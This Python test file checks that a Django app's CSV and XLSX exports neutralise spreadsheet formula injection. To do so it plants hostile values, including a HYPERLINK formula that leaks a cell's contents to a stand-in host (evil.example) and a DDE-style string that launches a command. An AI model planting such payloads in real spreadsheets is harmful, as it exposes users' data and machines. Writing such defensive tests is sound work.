"""Every spreadsheet Teekond writes keeps hostile text as text (finding 1 of issue 14): a proposal, a note,
a name or a group title that starts like a formula is never a formula in a download."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from teekond.core.spreadsheet import FORMULA_STARTS, csv_cell, is_formula_like
from teekond.journey.models import Proposal, ProposalText, Stage
from teekond.workshops import services
from teekond.workshops.models import Phase

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
# Every download that is a spreadsheet, by its address's name or the command that writes it; the guard below
# fails when a new one appears without being added to the walk.
KNOWN_SPREADSHEET_ROUTES = {"journey:proposals_xlsx", "workshops:export_csv"}


def _plant_hostile_proposal_texts():
    """Hostile titles and answers on the public proposals (the ministry's sheet is for anyone)."""
    proposals = list(Proposal.objects.exclude(state="draft").order_by("pk")[: len(HOSTILE)])
    assert len(proposals) == len(HOSTILE)
    for proposal, text in zip(proposals, HOSTILE, strict=True):
        ProposalText.objects.filter(proposal=proposal).update(title=text)
        Proposal.objects.filter(pk=proposal.pk).update(answer_text=text, answer_reasons=text, sent_reference=text)
    Stage.objects.first().texts.update(title=HYPERLINK)


def _hostile_workshop(facilitator):
    stages = Stage.objects.filter(slug="residence-registration")
    workshop, _token = services.workshop_create(
        user=facilitator, title=HYPERLINK, stages=stages, perspectives=stages[0].perspectives.all()[:1]
    )
    cell = (stages[0].slug, stages[0].perspectives.all()[0].slug)
    services.phase_set(actor=facilitator, workshop=workshop, phase=Phase.COLLECT)
    notes = []
    for text in HOSTILE:
        person, _token = services.participant_join(workshop=workshop, name=text[:60])
        notes.append(services.note_post(participant=person, stage=cell[0], perspective=cell[1], text=text))
    services.phase_set(actor=facilitator, workshop=workshop, phase=Phase.GROUP)
    services.group_create(actor=facilitator, workshop=workshop, title="@group", note_ids=[notes[0].pk])
    return workshop


def _assert_csv_safe(content: str) -> int:
    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"))))
    hostile_seen = 0
    for row in rows:
        for value in row:
            assert not is_formula_like(value), f"a formula in a CSV cell: {value!r}"
            hostile_seen += value.startswith("'") and value[1:].startswith(FORMULA_STARTS)
    return hostile_seen


def _assert_xlsx_safe(content: bytes) -> int:
    workbook = load_workbook(io.BytesIO(content))
    hostile_seen = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula in {sheet.title}!{cell.coordinate}: {cell.value!r}"
                if is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    hostile_seen += 1
    return hostile_seen


def test_the_proposals_spreadsheet_for_anyone_holds_no_formula(client):
    _plant_hostile_proposal_texts()
    for language in ("et", "en"):
        response = client.get(f"/{language}/journey/proposals.xlsx")
        assert response.status_code == 200
        # Titles, references, answers and reasons of six proposals.
        assert _assert_xlsx_safe(response.content) >= len(HOSTILE) * 2
    workbook = load_workbook(io.BytesIO(client.get("/en/journey/proposals.xlsx").content))
    texts = {cell.value for row in workbook.active.iter_rows() for cell in row}
    assert HYPERLINK in texts  # shown exactly as typed, not mangled


def test_the_journey_exports_hold_no_formula(tmp_path, capsys):
    _plant_hostile_proposal_texts()
    call_command("journey", "export", "--format", "csv")
    assert _assert_csv_safe(capsys.readouterr().out) >= len(HOSTILE)
    target = tmp_path / "map.xlsx"
    call_command("journey", "export", "--format", "xlsx", "-o", str(target))
    assert _assert_xlsx_safe(target.read_bytes()) >= len(HOSTILE)


def test_the_workshop_csv_holds_no_formula(facilitator, as_persona):
    workshop = _hostile_workshop(facilitator)
    response = as_persona("facilitator").get(f"/en/workshops/{workshop.code}/export.csv")
    assert response.status_code == 200
    content = response.content.decode()
    # Notes and the names given, each hostile; the group's title too.
    assert _assert_csv_safe(content) >= 2 * len(HOSTILE)
    assert "'@group" in content and "'" + HYPERLINK.replace('"', '""') in content


def test_an_apostrophe_marks_only_what_would_run():
    assert csv_cell("Tallinn – Tartu") == "Tallinn – Tartu"
    assert csv_cell("50%") == "50%" and csv_cell(-5) == -5 and csv_cell(None) is None
    assert [csv_cell(text)[0] for text in HOSTILE] == ["'"] * len(HOSTILE)


def _routes(resolver, prefix=""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _routes(pattern, prefix + (f"{pattern.namespace}:" if pattern.namespace else ""))
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield prefix + pattern.name, str(pattern.pattern)


def test_every_spreadsheet_download_is_walked_above():
    spreadsheets = {name for name, route in _routes(get_resolver()) if route.endswith((".csv", ".xlsx"))}
    assert spreadsheets == KNOWN_SPREADSHEET_ROUTES
